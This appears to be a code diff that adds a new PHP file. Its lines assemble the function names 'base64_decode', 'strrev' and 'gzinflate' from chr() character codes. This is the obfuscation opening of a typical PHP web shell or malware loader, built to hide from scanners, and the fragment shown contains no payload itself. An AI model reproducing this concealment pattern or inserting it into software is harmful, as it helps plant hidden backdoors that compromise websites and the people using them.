@@ -0,0 +1,4 @@
+<?php
+$f = chr(98).chr(97).chr(115).chr(101).chr(54).chr(52).chr(95).chr(100).chr(101).chr(99).chr(111).chr(100).chr(101);
+$g = chr(115).chr(116).chr(114).chr(114).chr(101).chr(118);
+$h = chr(103).chr(122).chr(105).chr(110).chr(102).chr(108).chr(97).chr(116).chr(101);